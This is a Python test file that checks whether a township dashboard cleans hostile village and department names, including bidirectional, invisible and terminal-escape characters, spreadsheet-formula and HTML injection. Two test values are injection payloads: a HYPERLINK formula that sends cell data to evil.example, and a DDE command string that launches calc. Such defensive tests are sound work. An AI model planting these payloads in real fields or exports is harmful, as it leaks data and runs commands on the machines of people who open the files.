"""Hostile and careless use of places' names over the links (issue 20.12): what a child may tell, and where its words end up."""
import csv
import io

import pytest
import requests

from common import accounts
from common.hlc import Clock
from common.node import open_db
from common.store import applications as apps
from common.store import catalog, places
from common.store.db import transaction
from common.tiers import load_tier
from sync import wire
from tests.helpers import ADMIN_PASSWORD, LiveServer, login, make_node
from tests.sync.netutil import make_network
from tests.sync.test_place_names import _protocols

T, V1 = "371399101", "371399101001"
APPLICANT = {"name": "钱七", "id_number": "11010519440119002X", "phone": "13700004321"}


def _told(tmp_path, name):
    """What the township keeps when its village pings NAME for itself."""
    cfgs = make_network(tmp_path, villages=1)
    tc, vc, link = _protocols(cfgs, T, V1)
    link.pump()
    link.to_parent(wire.encode("ping", ts=Clock(V1).wall_ms() / 1000, names={V1: name}))
    link.parent.endpoint(V1).flush_stats(every=0)
    return places.names(tc).get(V1)


@pytest.mark.parametrize("name", ["\u202e村岭东\u202c",        # right-to-left override: shows 东岭村 backwards
                                  "东岭\u200b\u200d村",          # zero-width space and joiner
                                  "东岭村\x00\x07\x1b[31m"])     # NUL, BEL, a terminal escape
def test_a_village_name_with_bidi_invisible_or_control_characters_is_not_kept_as_sent(tmp_path, name):
    kept = _told(tmp_path, name)
    assert kept is None or all(c.isprintable() and c not in "\u200b\u200c\u200d\u2060\ufeff" for c in kept), repr(kept)


def test_a_village_name_of_only_invisible_characters_does_not_blank_the_place(tmp_path):
    kept = _told(tmp_path, "\u200b\u200b\u2060")
    assert kept is None or kept.strip("\u200b\u200c\u200d\u2060\ufeff"), repr(kept)  # a place that reads as nothing


@pytest.fixture(scope="module")
def township(tmp_path_factory):
    cfg = make_node(tmp_path_factory.mktemp("places-attack"), "township")
    conn = open_db(cfg)
    accounts.add_user(conn, "township", "head1", "乡镇长", ADMIN_PASSWORD, ["township_head"])
    apps.submit(conn, Clock(V1), V1, "kiosk", catalog.item(conn, "MZ-002"), APPLICANT,
                {"reason": "突发疾病", "amount": "800"})
    with transaction(conn):  # what the township's endpoint keeps from its village's ping (clean, then learn)
        places.learn(conn, places.clean({V1: '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'}), V1)
    conn.close()
    with LiveServer(load_tier("township").create_app(cfg)) as srv:
        s = requests.Session()
        assert login(s, srv.url, "head1").status_code == 200
        yield srv.url, s


def test_a_village_named_like_a_formula_is_neutralised_in_the_township_heads_csv(township):
    url, s = township
    r = s.get(url + "/dashboard.csv", params={"table": "villages"}, timeout=10)
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
    [row] = [x for x in rows[1:] if x[0] == V1]
    assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r")), row[1]  # a spreadsheet runs it as a formula


def test_a_department_named_like_a_formula_is_neutralised_in_the_csv():
    from common.web import figures
    rows = [{"key": "MZ", "name": "@SUM(1+1)*cmd|' /C calc'!A0", "received": 1}]
    assert not figures.csv_table(rows, "department", "zh")[1][1].startswith(("=", "+", "-", "@"))


def test_the_township_dashboard_says_a_bad_table_clearly(township):
    url, s = township
    r = s.get(url + "/dashboard.csv", params={"table": "planets"}, timeout=10)
    assert 400 <= r.status_code < 500 and ("items" in r.text or "villages" in r.text), r.text[:200]


@pytest.mark.parametrize("args", [{"from": "1999-12-31"}, {"to": "2999-01-01"}, {"min_sample": "0"},
                                  {"min_sample": "x"}, {"period": "decade"}, {"from": "2026-13-01"},
                                  {"from": "2026-05-01", "to": "2026-04-01"}, {"group": "planet"},
                                  {"from": "９９９９-01-01"}, {"min_sample": "9" * 5000}])
def test_the_township_dashboard_refuses_bad_periods_with_a_4xx(township, args):
    url, s = township
    r = s.get(url + "/dashboard", params=args, timeout=10)
    assert 400 <= r.status_code < 500, (args, r.status_code)


def test_the_markup_of_a_name_is_escaped_on_the_page(township, tmp_path):
    url, s = township
    page = s.get(url + "/dashboard", timeout=10).text
    assert "HYPERLINK" in page and '"http://evil' not in page  # quotes escaped, not raw
